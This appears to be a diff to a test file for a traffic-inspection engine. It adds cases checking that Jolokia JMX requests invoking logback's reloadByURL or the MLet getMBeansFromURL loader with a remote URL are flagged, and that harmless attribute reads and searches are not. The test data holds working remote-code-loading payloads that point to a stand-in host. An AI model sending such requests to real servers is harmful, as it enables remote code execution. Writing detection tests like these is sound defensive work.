@@ -1,6 +1,9 @@
 import { gzipSync } from 'node:zlib';
 import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
 import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
+import { Detector } from '@/runtime/analyzer/engine/detection/detector';
+import { resolveLimits } from '@/runtime/analyzer/engine/limits';
+import { viewRequest } from '@/runtime/analyzer/engine/message-view';
 import { gunzipBase64Start, gunzipStart, lookupForm } from '@/runtime/analyzer/engine/detection/decode';
 import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';
 import { buildExchange } from '@/test/fixtures/traffic';
@@ -173,5 +176,34 @@ describe('Java: expressions and lookups', () => {
     expect(idsOf('difference between java.lang.ProcessBuilder and Runtime')).toEqual([]);
     expect(idsOf('java.lang.Runtime')).toEqual([420102]);
     expect(idsOf('org.apache.commons.collections.functors.InvokerTransformer')).toEqual([420102]);
+  });
+});
+
+describe('Java: JMX operations through Jolokia that load configuration or code', () => {
+  const hits = (spec: Parameters<typeof buildExchange>[0]): number[] =>
+    new Detector().detect(viewRequest(buildExchange(spec), resolveLimits(undefined))).hits.map((h) => h.rule.id);
+
+  it("reads logback's reloadByURL and the MLet loader, in a Jolokia URL or a JSON request", () => {
+    expect(
+      hits({
+        target: '/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.9!/x.xml',
+      }),
+    ).toContain(420114);
+    const body = JSON.stringify({
+      type: 'EXEC',
+      mbean: 'ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator',
+      operation: 'reloadByURL',
+      arguments: ['http://203.0.113.9/logback.xml'],
+    });
+    expect(hits({ method: 'POST', target: '/actuator/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: body })).toContain(420114);
+    const mlet = JSON.stringify({ type: 'exec', mbean: 'DefaultDomain:type=MLet', operation: 'getMBeansFromURL', arguments: ['http://203.0.113.9/mlet'] });
+    expect(hits({ method: 'POST', target: '/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: mlet })).toContain(420114);
+  });
+
+  it('leaves attribute reads and a document naming the operation alone', () => {
+    expect(hits({ target: '/jolokia/read/java.lang:type=Memory/HeapMemoryUsage' })).toEqual([]);
+    const read = JSON.stringify({ type: 'read', mbean: 'java.lang:type=Threading', attribute: 'ThreadCount' });
+    expect(hits({ method: 'POST', target: '/jolokia', requestHeaders: [['Content-Type', 'application/json']], requestBody: read })).toEqual([]);
+    expect(hits({ target: '/search?q=logback+reloadByURL+example' })).toEqual([]);
   });
 });
